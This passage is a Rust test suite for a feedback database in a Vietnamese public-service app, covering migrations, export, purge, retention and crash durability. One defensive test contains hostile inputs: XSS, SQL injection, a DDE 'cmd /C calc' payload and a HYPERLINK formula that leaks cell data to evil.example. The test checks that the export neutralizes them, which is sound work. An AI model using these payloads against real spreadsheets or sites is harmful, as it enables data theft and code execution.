//! The feedback store: round trips, migrations, hostile input stored verbatim and exported safely, purge,
//! retention, and durability under SIGKILL of the writing process.

use std::collections::{HashMap, HashSet};
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sotay::Error;
use sotay::feedback::export::HEADER;
use sotay::feedback::schema::{MIGRATIONS, current_version};
use sotay::feedback::{
    FeedbackStore, Petition, PetitionInput, PetitionKind, RatingInput, validate_petition,
};

fn petition(summary: &str) -> PetitionInput {
    PetitionInput {
        kind: PetitionKind::KienNghi,
        name: "Nguyễn Thị Hoa".into(),
        address: "Tổ 3, phường Phú Hội, thành phố Huế".into(),
        phone: "0905 123 456".into(),
        email: Some("hoa@example.vn".into()),
        procedure_code: Some("1.000894".into()),
        summary: summary.into(),
    }
}

fn store() -> (tempfile::TempDir, FeedbackStore) {
    let dir = tempfile::tempdir().expect("tmp");
    let store = FeedbackStore::open(&FeedbackStore::default_path(dir.path())).expect("open");
    (dir, store)
}

/// The stored form of an input (what validation makes of it).
fn stored_form(p: &PetitionInput) -> PetitionInput {
    validate_petition(p).expect("valid")
}

fn as_input(p: &Petition) -> PetitionInput {
    PetitionInput {
        kind: p.kind,
        name: p.name.clone(),
        address: p.address.clone(),
        phone: p.phone.clone(),
        email: p.email.clone(),
        procedure_code: p.procedure_code.clone(),
        summary: p.summary.clone(),
    }
}

/// Reads an export back: the header and the rows, BOM removed.
fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).expect("read export");
    let text = std::str::from_utf8(&bytes).expect("utf-8");
    let text = text.strip_prefix('\u{feff}').expect("BOM first");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let header = r
        .headers()
        .expect("header")
        .iter()
        .map(String::from)
        .collect();
    let rows = r
        .records()
        .map(|rec| rec.expect("record").iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// A cell as it was before neutralization.
fn unneutralize(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest)
            if rest
                .trim_start_matches(['\u{200B}', '\u{FEFF}', '\u{2060}'])
                .starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) =>
        {
            rest
        }
        _ => cell,
    }
}

#[test]
fn round_trip_survives_reopening() {
    let (dir, store) = store();
    let a = petition("Đề nghị bố trí thêm ghế chờ tại bộ phận một cửa.");
    let mut b = petition("Cán bộ hướng dẫn chưa rõ về giấy tờ cần mang theo.");
    b.kind = PetitionKind::PhanAnh;
    b.email = None;
    b.procedure_code = None;
    b.phone = "+84 24 3825 3535".into();
    let ia = store.add_petition(&a).expect("add a");
    let ib = store.add_petition(&b).expect("add b");
    assert!(ib > ia);
    store
        .add_rating(&RatingInput {
            code: "1.000894".into(),
            level: 3,
        })
        .expect("rating");
    store
        .add_rating(&RatingInput {
            code: "1.001193".into(),
            level: 1,
        })
        .expect("rating");
    drop(store);

    let store = FeedbackStore::open(&FeedbackStore::default_path(dir.path())).expect("reopen");
    let ps = store.petitions().expect("petitions");
    assert_eq!(ps.len(), 2);
    assert_eq!(as_input(&ps[0]), stored_form(&a));
    assert_eq!(as_input(&ps[1]), stored_form(&b));
    assert_eq!(ps[1].phone, "+842438253535");
    for p in &ps {
        assert!(p.exported_at.is_none());
        // UTC ISO-8601 with milliseconds.
        assert_eq!(p.created_at.len(), 24, "{}", p.created_at);
        assert!(p.created_at.ends_with('Z') && p.created_at.as_bytes()[10] == b'T');
    }
    let rs = store.ratings().expect("ratings");
    assert_eq!(
        rs.iter()
            .map(|r| (r.procedure_code.as_str(), r.level))
            .collect::<Vec<_>>(),
        [("1.000894", 3), ("1.001193", 1)]
    );
    let c = store.counts().expect("counts");
    assert_eq!(
        (c.petitions, c.petitions_not_exported, c.ratings),
        (2, 2, 2)
    );
}

#[test]
fn refused_input_stores_nothing() {
    let (_dir, store) = store();
    let mut p = petition("ngắn");
    p.phone = "1022".into();
    match store.add_petition(&p) {
        Err(Error::InvalidFields(fields)) => {
            let names: Vec<&str> = fields.iter().map(|f| f.field.as_str()).collect();
            assert_eq!(names, ["phone", "summary"]);
        }
        other => panic!("{other:?}"),
    }
    for (code, level) in [("1.000894", 0), ("1.000894", 4), ("khong-ma", 2)] {
        let r = RatingInput {
            code: code.into(),
            level,
        };
        assert!(matches!(store.add_rating(&r), Err(Error::InvalidFields(_))));
    }
    let c = store.counts().expect("counts");
    assert_eq!((c.petitions, c.ratings), (0, 0));
}

#[test]
fn migrations_from_an_empty_file_and_from_version_1() {
    // An empty file (as a crash right after creation would leave) becomes a current database.
    let tmp = tempfile::tempdir().expect("tmp");
    let empty = tmp.path().join("empty.sqlite3");
    std::fs::write(&empty, b"").expect("write");
    let s = FeedbackStore::open(&empty).expect("open empty");
    assert_eq!(s.schema_version().expect("version"), current_version());
    assert!(current_version() >= 2);
    drop(s);

    // A version-1 database with data, as the first release wrote it.
    let v1 = tmp.path().join("v1.sqlite3");
    {
        let conn = rusqlite::Connection::open(&v1).expect("open v1");
        conn.execute_batch(MIGRATIONS[0]).expect("schema v1");
        conn.pragma_update(None, "user_version", 1)
            .expect("version");
        conn.execute(
            "INSERT INTO petitions (created_at, kind, name, address, phone, summary)
             VALUES ('2026-01-02T03:04:05.000Z', 'phan-anh', 'Lê Văn Bình', 'Đà Nẵng', '0905123456',
                     'Nội dung phản ánh cũ')",
            [],
        )
        .expect("insert");
        conn.execute(
            "INSERT INTO ratings (created_at, procedure_code, level)
             VALUES ('2026-01-02T03:04:06.000Z', '1.000894', 2)",
            [],
        )
        .expect("insert");
    }
    let s = FeedbackStore::open(&v1).expect("migrate v1");
    assert_eq!(s.schema_version().expect("version"), current_version());
    let ps = s.petitions().expect("petitions");
    assert_eq!(ps.len(), 1);
    assert_eq!(ps[0].name, "Lê Văn Bình");
    assert_eq!(ps[0].created_at, "2026-01-02T03:04:05.000Z");
    assert_eq!(s.ratings().expect("ratings")[0].level, 2);
    drop(s);
    let conn = rusqlite::Connection::open(&v1).expect("open");
    let indexes: i64 = conn
        .query_row(
            "SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name LIKE '%_by_%'",
            [],
            |r| r.get(0),
        )
        .expect("indexes");
    assert_eq!(indexes, 3);
    // Opening a current database again changes nothing.
    drop(conn);
    let s = FeedbackStore::open(&v1).expect("reopen");
    assert_eq!(s.petitions().expect("petitions").len(), 1);
}

#[test]
fn a_newer_database_is_refused_and_left_untouched() {
    let tmp = tempfile::tempdir().expect("tmp");
    let path = tmp.path().join("future.sqlite3");
    {
        let conn = rusqlite::Connection::open(&path).expect("open");
        conn.execute_batch("CREATE TABLE future (x); PRAGMA user_version = 99;")
            .expect("future");
    }
    let before = std::fs::read(&path).expect("read");
    match FeedbackStore::open(&path) {
        Err(Error::SchemaTooNew { found, known, .. }) => {
            assert_eq!((found, known), (99, current_version()));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(std::fs::read(&path).expect("read"), before);
    let err = FeedbackStore::open(&path)
        .expect_err("still refused")
        .to_string();
    assert!(err.contains("newer"), "{err}");
}

#[test]
fn a_file_that_is_not_a_database_is_a_database_error_naming_it() {
    let tmp = tempfile::tempdir().expect("tmp");
    let path = tmp.path().join("feedback.sqlite3");
    std::fs::write(&path, "petitions,ratings\n".repeat(100)).expect("write");
    match FeedbackStore::open(&path) {
        Err(e @ Error::Database { .. }) => {
            assert!(
                e.to_string().starts_with(&path.display().to_string()),
                "{e}"
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn hostile_input_is_stored_verbatim_and_exported_safely() {
    let (dir, store) = store();
    let long: String = "Thủ tục rườm rà 😀 ".chars().cycle().take(10_000).collect();
    let cases: Vec<PetitionInput> = vec![
        petition(&long),
        petition("Xin chào 👋🏽 👨‍👩‍👧 — biểu tượng cảm xúc 🇻🇳"),
        PetitionInput {
            name: "<script>alert('x')</script>".into(),
            address: "<img src=x onerror=alert(1)> & \"trích dẫn\"".into(),
            ..petition("<b>đậm</b><script>document.cookie</script>")
        },
        PetitionInput {
            name: "Robert'); DROP TABLE petitions;--".into(),
            address: "1' OR '1'='1".into(),
            ..petition("'; DROP TABLE petitions;-- \"; DELETE FROM ratings; --")
        },
        PetitionInput {
            name: "Tên\u{0}có NUL".into(),
            address: "Địa\u{0}chỉ\u{1b}[31m".into(),
            ..petition("Nội dung\u{0}có byte NUL\u{0} ở giữa\r\nvà xuống dòng")
        },
        PetitionInput {
            name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")".into(),
            address: "+1 phố Huế".into(),
            email: None,
            ..petition("-2+3 là công thức")
        },
        PetitionInput {
            name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            address: "-5 độ C ngoài trời".into(),
            ..petition("=1+1 và mọi thứ khác")
        },
        PetitionInput {
            name: "\u{200B}=HYPERLINK(\"http://evil.example\")".into(),
            address: "＝1+1 phố Huế".into(),
            email: None,
            ..petition("\u{FEFF}\u{2060}＋84 ＠SUM(A1) －2")
        },
    ];
    let mut ids = Vec::new();
    for p in &cases {
        ids.push(store.add_petition(p).expect("stored"));
    }
    let stored = store.petitions().expect("petitions");
    assert_eq!(stored.len(), cases.len());
    for (p, s) in cases.iter().zip(&stored) {
        assert_eq!(as_input(s), stored_form(p), "read back equal");
    }
    // NUL bytes and markup really are in the database as typed.
    assert_eq!(stored[0].summary.chars().count(), 10_000);
    assert_eq!(stored[4].name, "Tên\u{0}có NUL");
    assert_eq!(stored[3].name, "Robert'); DROP TABLE petitions;--");

    let out = dir.path().join("xuat.csv");
    let summary = store.export_csv(&out, false).expect("export");
    assert_eq!(
        (summary.petitions, summary.ratings, summary.purged),
        (8, 0, 0)
    );
    // NUL bytes are not written raw (they cut cells short in many programs): U+FFFD stands for them.
    let raw = std::fs::read(&out).expect("read export");
    assert!(!raw.contains(&0), "a NUL byte in the export");
    let (header, rows) = read_csv(&out);
    assert_eq!(header, HEADER);
    assert_eq!(rows.len(), cases.len());
    for (row, s) in rows.iter().zip(&stored) {
        let cell = |name: &str| {
            let i = HEADER.iter().position(|h| *h == name).expect("column");
            unneutralize(&row[i]).to_string()
        };
        let nul = |v: &str| v.replace('\0', "\u{FFFD}");
        assert_eq!(cell("record"), s.kind.as_str());
        assert_eq!(cell("id"), s.id.to_string());
        assert_eq!(cell("created_at"), s.created_at);
        assert_eq!(cell("name"), nul(&s.name));
        assert_eq!(cell("address"), nul(&s.address));
        assert_eq!(cell("phone"), s.phone);
        assert_eq!(cell("email"), s.email.clone().unwrap_or_default());
        assert_eq!(
            cell("procedure_code"),
            s.procedure_code.clone().unwrap_or_default()
        );
        assert_eq!(cell("summary"), nul(&s.summary));
        assert_eq!(cell("level"), "");
        // No cell a spreadsheet would evaluate, even behind invisible characters or in full width.
        for raw in row {
            let visible = raw.trim_start_matches(['\u{200B}', '\u{FEFF}', '\u{2060}']);
            assert!(
                !visible.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
                "not neutralized: {raw:?}"
            );
        }
    }
    assert_eq!(rows[4][5], "Tên\u{FFFD}có NUL");
    assert_eq!(rows[7][5], "'\u{200B}=HYPERLINK(\"http://evil.example\")");
    assert_eq!(rows[7][6], "'＝1+1 phố Huế");
    assert_eq!(rows[7][9], "'\u{FEFF}\u{2060}＋84 ＠SUM(A1) －2");
    let name = |i: usize| rows[i][5].as_str();
    assert!(name(5).starts_with("'=HYPERLINK("));
    assert_eq!(rows[5][6], "'+1 phố Huế");
    assert_eq!(rows[5][9], "'-2+3 là công thức");
    assert!(name(6).starts_with("'@SUM("));
    assert_eq!(rows[6][6], "'-5 độ C ngoài trời");
    assert_eq!(rows[6][9], "'=1+1 và mọi thứ khác");
    // Exporting marks, and leaves everything in place without purge.
    let c = store.counts().expect("counts");
    assert_eq!((c.petitions, c.petitions_not_exported), (8, 0));
}

#[test]
fn an_empty_export_still_has_its_header() {
    let (dir, store) = store();
    let out = dir.path().join("rong.csv");
    let s = store.export_csv(&out, true).expect("export");
    assert_eq!((s.petitions, s.ratings, s.purged), (0, 0, 0));
    let (header, rows) = read_csv(&out);
    assert_eq!(header, HEADER);
    assert!(rows.is_empty());
    let bytes = std::fs::read(&out).expect("read");
    assert!(bytes.ends_with(b"summary\r\n"));

    // The CLI writes the same, and says what it wrote.
    let out2 = dir.path().join("cli.csv");
    let o = Command::new(env!("CARGO_BIN_EXE_sotay"))
        .args(["feedback", "export", "--db"])
        .arg(store.path())
        .arg("--out")
        .arg(&out2)
        .env(sotay::config::DATA_DIR_VAR, dir.path())
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("0 petition(s), 0 rating(s)"));
    assert_eq!(std::fs::read(&out2).expect("read"), bytes);
}

#[test]
fn purge_removes_exactly_the_exported_petitions() {
    let (dir, store) = store();
    for i in 0..3 {
        store
            .add_petition(&petition(&format!("Kiến nghị số {i} cần xem xét")))
            .expect("add");
    }
    store
        .add_rating(&RatingInput {
            code: "1.000894".into(),
            level: 2,
        })
        .expect("rating");
    let s = store
        .export_csv(&dir.path().join("1.csv"), true)
        .expect("export");
    assert_eq!((s.petitions, s.ratings, s.purged), (3, 1, 3));
    let c = store.counts().expect("counts");
    assert_eq!((c.petitions, c.ratings), (0, 1), "ratings are kept");
    let later = store
        .add_petition(&petition("Kiến nghị gửi sau lần xuất"))
        .expect("add");
    assert_eq!(later, 4, "ids are never reused after a purge");

    // A second process keeps writing while this one exports and purges: every petition ends up in
    // exactly one export or still in the database, never lost, never twice.
    let other = FeedbackStore::open(store.path()).expect("second connection");
    let acked = Arc::new(Mutex::new(vec![later]));
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let acked = Arc::clone(&acked);
        let done = Arc::clone(&done);
        std::thread::spawn(move || {
            let mut i = 0;
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                let id = other
                    .add_petition(&petition(&format!("Kiến nghị đồng thời số {i}")))
                    .expect("concurrent add");
                acked.lock().expect("lock").push(id);
                i += 1;
                // A desk adds a petition every few seconds at most; a writer that never lets go of the
                // lock starves the exporter (SQLite's busy handler retries by sleeping, the writer by
                // spinning), and the export then fails as designed, losing nothing, after its timeout.
                std::thread::sleep(Duration::from_millis(1));
            }
        })
    };
    let mut exported = Vec::new();
    for n in 0..5 {
        std::thread::sleep(Duration::from_millis(20));
        let out = dir.path().join(format!("p{n}.csv"));
        let s = store.export_csv(&out, true).expect("export");
        let (_, rows) = read_csv(&out);
        let ids: Vec<i64> = rows
            .iter()
            .filter(|r| r[0] != "danh-gia")
            .map(|r| r[1].parse().expect("id"))
            .collect();
        assert_eq!(ids.len(), s.petitions);
        assert_eq!(s.purged, s.petitions, "purged exactly what was exported");
        exported.extend(ids);
    }
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    writer.join().expect("writer");
    let remaining: Vec<i64> = store
        .petitions()
        .expect("petitions")
        .iter()
        .map(|p| p.id)
        .collect();
    let mut all = exported.clone();
    all.extend(&remaining);
    let unique: HashSet<i64> = all.iter().copied().collect();
    assert_eq!(unique.len(), all.len(), "no petition exported twice");
    let acked: HashSet<i64> = acked.lock().expect("lock").iter().copied().collect();
    assert_eq!(
        unique, acked,
        "every acknowledged petition exported or kept"
    );
    assert!(exported.len() > 1, "the writer ran during the exports");
}

#[test]
fn retention_deletes_only_what_is_older() {
    let (_dir, store) = store();
    store
        .add_petition(&petition("Kiến nghị mới gửi hôm nay"))
        .expect("add");
    store
        .add_rating(&RatingInput {
            code: "1.000894".into(),
            level: 3,
        })
        .expect("rating");
    {
        let conn = rusqlite::Connection::open(store.path()).expect("open");
        conn.execute(
            "INSERT INTO petitions (created_at, kind, name, address, phone, summary)
             VALUES (strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-400 days'), 'kien-nghi', 'Cũ', 'Cũ',
                     '0905123456', 'Kiến nghị từ năm ngoái'),
                    (strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-20 days'), 'kien-nghi', 'Vừa', 'Vừa',
                     '0905123456', 'Kiến nghị tháng trước')",
            [],
        )
        .expect("old petitions");
        conn.execute(
            "INSERT INTO ratings (created_at, procedure_code, level)
             VALUES (strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-366 days'), '1.000894', 1)",
            [],
        )
        .expect("old rating");
    }
    assert_eq!(store.apply_retention(0).expect("keep forever"), 0);
    assert_eq!(store.counts().expect("counts").petitions, 3);
    // Nothing was exported yet: only the old rating goes, every petition stays, however old.
    assert_eq!(store.apply_retention(365).expect("retention"), 1);
    assert_eq!(store.apply_retention(10).expect("retention"), 0);
    assert_eq!(store.counts().expect("counts").petitions, 3);
    // Once exported, old petitions go.
    let tmp = tempfile::tempdir().expect("tmp");
    store
        .export_csv(&tmp.path().join("x.csv"), false)
        .expect("export");
    assert_eq!(store.apply_retention(365).expect("retention"), 1);
    let names: Vec<String> = store
        .petitions()
        .expect("petitions")
        .into_iter()
        .map(|p| p.name)
        .collect();
    assert_eq!(names, ["Nguyễn Thị Hoa", "Vừa"]);
    assert_eq!(store.ratings().expect("ratings").len(), 1);
    assert_eq!(store.apply_retention(10).expect("retention"), 1);
    assert_eq!(store.apply_retention(10).expect("again"), 0);
}

/// Defect: `feedback export` applied the retention first, deleting a 400-day-old petition that had
/// never been exported before the CSV was written. Retention never deletes an unexported petition.
#[test]
fn retention_never_deletes_an_unexported_petition() {
    let (dir, store) = store();
    store
        .add_petition(&petition("Kiến nghị mới gửi hôm nay"))
        .expect("add");
    {
        let conn = rusqlite::Connection::open(store.path()).expect("open");
        conn.execute(
            "INSERT INTO petitions (created_at, kind, name, address, phone, summary)
             VALUES (strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-400 days'), 'phan-anh', 'Cũ', 'Huế',
                     '0905123456', 'Phản ánh chưa ai xuất')",
            [],
        )
        .expect("old petition");
    }
    drop(store);
    // The CLI with the default retention (365 days), purging: the old petition must be in the file.
    let out = dir.path().join("gop-y.csv");
    let o = Command::new(env!("CARGO_BIN_EXE_sotay"))
        .args(["feedback", "export", "--purge", "--data"])
        .arg(dir.path())
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let (_, rows) = read_csv(&out);
    let names: Vec<&str> = rows.iter().map(|r| r[5].as_str()).collect();
    assert_eq!(names, ["Nguyễn Thị Hoa", "Cũ"], "every petition exported");
    let store = FeedbackStore::open(&FeedbackStore::default_path(dir.path())).expect("open");
    assert_eq!(store.counts().expect("counts").petitions, 0, "purged");
}

/// A small deterministic generator (SplitMix64) so a failing round can be replayed from its seed.
struct SplitMix(u64);

impl SplitMix {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// Kills `sotay feedback add` with SIGKILL at random moments while it stores petitions, many times over
/// the same database, and checks after each kill that every acknowledged petition is there, intact, and
/// that SQLite's integrity check passes. `SOTAY_DURABILITY_SEED` replays a run; `SOTAY_DURABILITY_ROUNDS`
/// changes the number of rounds (default 50).
#[test]
fn every_acknowledged_petition_survives_sigkill() {
    let seed = std::env::var("SOTAY_DURABILITY_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| {
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(1, |d| d.as_nanos() as u64)
        });
    let rounds: usize = std::env::var("SOTAY_DURABILITY_ROUNDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(50);
    eprintln!("durability: seed {seed} (SOTAY_DURABILITY_SEED={seed} replays it), {rounds} rounds");
    let mut rng = SplitMix(seed);
    let tmp = tempfile::tempdir().expect("tmp");
    let db = tmp.path().join("feedback.sqlite3");
    let started = Instant::now();
    // Everything ever acknowledged: id → the petition as stored.
    let mut acked: HashMap<i64, PetitionInput> = HashMap::new();
    let mut sent_total = 0usize;

    for round in 0..rounds {
        let mut child = Command::new(env!("CARGO_BIN_EXE_sotay"))
            .args(["feedback", "add", "--db"])
            .arg(&db)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn sotay feedback add");
        let mut stdin = child.stdin.take().expect("stdin");
        let stdout = child.stdout.take().expect("stdout");
        // Lines are sent in order and answered in order: the k-th `ok` is the k-th petition sent.
        let sent: Arc<Mutex<Vec<PetitionInput>>> = Arc::new(Mutex::new(Vec::new()));
        let writer = {
            let sent = Arc::clone(&sent);
            let kinds = rng.next();
            std::thread::spawn(move || {
                for k in 0usize.. {
                    let mut p = petition(&format!(
                        "Vòng {round}, kiến nghị {k}: nội dung riêng {kinds:x}-{k} 😀 \"trích\" ; --"
                    ));
                    if (kinds >> (k % 64)) & 1 == 1 {
                        p.kind = PetitionKind::PhanAnh;
                        p.email = None;
                    }
                    let mut line = serde_json::to_string(&p).expect("json");
                    line.push('\n');
                    sent.lock().expect("lock").push(stored_form(&p));
                    if stdin.write_all(line.as_bytes()).is_err() {
                        break; // the process is gone
                    }
                }
            })
        };
        let reader = std::thread::spawn(move || {
            let mut ids = Vec::new();
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                let id: i64 = line
                    .strip_prefix("ok ")
                    .unwrap_or_else(|| panic!("unexpected answer {line:?}"))
                    .parse()
                    .expect("id");
                ids.push(id);
            }
            ids
        });
        // Kill at a random moment: sometimes while it opens the database, mostly mid-stream.
        let delay = match rng.below(10) {
            0 => rng.below(5),
            _ => rng.below(150),
        };
        std::thread::sleep(Duration::from_millis(delay));
        child.kill().expect("SIGKILL");
        child.wait().expect("reap");
        let ids = reader.join().expect("reader");
        writer.join().expect("writer");
        let sent = sent.lock().expect("lock");
        sent_total += sent.len();
        assert!(ids.len() <= sent.len());
        for (k, id) in ids.iter().enumerate() {
            assert!(
                acked.insert(*id, sent[k].clone()).is_none(),
                "round {round}: id {id} acknowledged twice (seed {seed})"
            );
        }

        // After each kill: open (recovering the WAL), check every acknowledged petition and integrity.
        let store = FeedbackStore::open(&db).expect("reopen after SIGKILL");
        let present: HashMap<i64, PetitionInput> = store
            .petitions()
            .expect("petitions")
            .iter()
            .map(|p| (p.id, as_input(p)))
            .collect();
        for (id, p) in &acked {
            assert_eq!(
                present.get(id),
                Some(p),
                "round {round}: acknowledged petition {id} lost or changed (seed {seed})"
            );
        }
        drop(store);
        let conn = rusqlite::Connection::open(&db).expect("open");
        let check: String = conn
            .query_row("PRAGMA integrity_check", [], |r| r.get(0))
            .expect("integrity_check");
        assert_eq!(check, "ok", "round {round} (seed {seed})");
    }
    let present = FeedbackStore::open(&db)
        .expect("open")
        .counts()
        .expect("counts")
        .petitions;
    eprintln!(
        "durability: {rounds} rounds, {sent_total} sent, {} acknowledged, {present} present, \
         integrity ok after every kill, {:.1} s",
        acked.len(),
        started.elapsed().as_secs_f64()
    );
    assert!(
        acked.len() >= rounds,
        "too few acknowledgements to prove anything: {}",
        acked.len()
    );
    assert!(present >= acked.len());
}

/// `sotay feedback …` with `args`, without inheriting `SOTAY_DATA_DIR`.
fn feedback_cli(args: &[&std::ffi::OsStr]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_sotay"))
        .arg("feedback")
        .args(args)
        .env_remove(sotay::config::DATA_DIR_VAR)
        .output()
        .expect("run sotay")
}

/// A data folder whose database holds `n` petitions and one rating.
fn data_with(n: usize) -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().expect("tmp");
    let db = FeedbackStore::default_path(dir.path());
    let store = FeedbackStore::open(&db).expect("open");
    for i in 0..n {
        store
            .add_petition(&petition(&format!("Kiến nghị số {i} cần được xem xét")))
            .expect("add");
    }
    store
        .add_rating(&RatingInput {
            code: "1.000894".into(),
            level: 2,
        })
        .expect("rating");
    (dir, db)
}

fn integrity(db: &Path) -> String {
    rusqlite::Connection::open(db)
        .expect("open")
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .expect("integrity_check")
}

/// Defect: `feedback export --out D/feedback.sqlite3-wal --purge` printed "purged: 30" and lost every
/// petition (SQLite removed its -wal path, now the CSV, on close); `--out D/feedback.sqlite3` replaced
/// the database with the CSV. Any path to the database or its -wal/-shm/-journal files is refused,
/// links and `..` resolved, and nothing is written or deleted.
#[test]
fn export_never_writes_over_the_database_or_its_files() {
    let (dir, db) = data_with(30);
    let d = dir.path();
    // A second connection stays open, so -wal and -shm exist as they do while the app runs.
    let keep = FeedbackStore::open(&db).expect("second connection");
    assert_eq!(keep.petitions().expect("petitions").len(), 30);
    let elsewhere = tempfile::tempdir().expect("tmp");
    let linked = elsewhere.path().join("linked");
    std::os::unix::fs::symlink(d, &linked).expect("symlink to the folder");
    let file_link = elsewhere.path().join("gop-y.csv");
    std::os::unix::fs::symlink(&db, &file_link).expect("symlink to the database");
    let hard = d.join("cung-tep.csv");
    std::fs::hard_link(&db, &hard).expect("hard link");
    std::fs::create_dir(d.join("sub")).expect("mkdir");
    let targets = [
        d.join("feedback.sqlite3-wal"),
        d.join("feedback.sqlite3"),
        d.join("feedback.sqlite3-shm"),
        d.join("feedback.sqlite3-journal"),
        d.join("sub/../feedback.sqlite3-wal"),
        linked.join("feedback.sqlite3-wal"),
        linked.join("feedback.sqlite3"),
        file_link.clone(),
        hard.clone(),
    ];
    for target in &targets {
        let wal_before = std::fs::read(d.join("feedback.sqlite3-wal")).ok();
        let before = std::fs::read(&db).expect("read db");
        let o = feedback_cli(&[
            "export".as_ref(),
            "--purge".as_ref(),
            "--data".as_ref(),
            d.as_os_str(),
            "--out".as_ref(),
            target.as_os_str(),
        ]);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            !o.status.success(),
            "{}: exported over the database",
            target.display()
        );
        assert!(err.contains("refusing to write the export there"), "{err}");
        assert_eq!(
            std::fs::read(&db).expect("read db"),
            before,
            "{}",
            target.display()
        );
        assert_eq!(
            std::fs::read(d.join("feedback.sqlite3-wal")).ok(),
            wal_before,
            "{}",
            target.display()
        );
        // The library refuses too (the app goes through it).
        let err = keep
            .export_csv(target, true)
            .expect_err("the library refuses too")
            .to_string();
        assert!(err.contains("refusing to write the export there"), "{err}");
    }
    drop(keep);
    let store = FeedbackStore::open(&db).expect("reopen");
    assert_eq!(
        store.petitions().expect("petitions").len(),
        30,
        "nothing lost"
    );
    assert_eq!(integrity(&db), "ok");
    // A path next to them is fine.
    let o = feedback_cli(&[
        "export".as_ref(),
        "--purge".as_ref(),
        "--data".as_ref(),
        d.as_os_str(),
        "--out".as_ref(),
        d.join("feedback.sqlite3.csv").as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(read_csv(&d.join("feedback.sqlite3.csv")).1.len(), 31);
}

/// Defect: a mistyped `--db` created a new empty database and exported an empty CSV with exit 0. A
/// missing database is an error naming the path, and nothing is created.
#[test]
fn a_missing_database_is_an_error_and_nothing_is_created() {
    let (dir, _db) = data_with(1);
    let typo = dir.path().join("feedbak.sqlite3");
    let out = dir.path().join("x.csv");
    let empty = tempfile::tempdir().expect("tmp");
    for args in [
        vec![
            "export".as_ref(),
            "--db".as_ref(),
            typo.as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ],
        vec![
            "export".as_ref(),
            "--purge".as_ref(),
            "--db".as_ref(),
            typo.as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ],
        vec!["stats".as_ref(), "--db".as_ref(), typo.as_os_str()],
        vec![
            "stats".as_ref(),
            "--data".as_ref(),
            empty.path().as_os_str(),
        ],
        vec![
            "export".as_ref(),
            "--data".as_ref(),
            empty.path().as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ],
    ] {
        let o = feedback_cli(&args);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            !o.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stdout)
        );
        assert!(err.contains("no feedback database here"), "{err}");
        assert!(!typo.exists(), "{args:?} created {}", typo.display());
        assert!(!out.exists(), "{args:?} wrote {}", out.display());
        assert!(
            std::fs::read_dir(empty.path())
                .expect("read")
                .next()
                .is_none(),
            "{args:?} created a file in an empty data folder"
        );
    }
}

/// Runs `sotay` unable to write `folder` (made read-only; as root, which ignores modes, the command
/// runs as `nobody` instead).
fn sotay_without_write_access(args: &[&std::ffi::OsStr]) -> std::process::Output {
    use std::os::unix::process::CommandExt;
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_sotay"));
    cmd.arg("feedback")
        .args(args)
        .env_remove(sotay::config::DATA_DIR_VAR);
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        // SAFETY: between fork and exec only async-signal-safe calls: setgid and setuid.
        unsafe {
            cmd.pre_exec(|| {
                if libc::setgid(65534) != 0 || libc::setuid(65534) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
    cmd.output().expect("run sotay")
}

/// Defect: in a read-only data folder even `stats` and an export to another folder failed with
/// "unable to open database file". Both only read, so both work (read-only, creating nothing).
#[test]
fn stats_and_export_work_in_a_read_only_data_folder() {
    use std::os::unix::fs::PermissionsExt;
    let (dir, db) = data_with(3);
    let d = dir.path();
    let mode = |p: &Path, m: u32| {
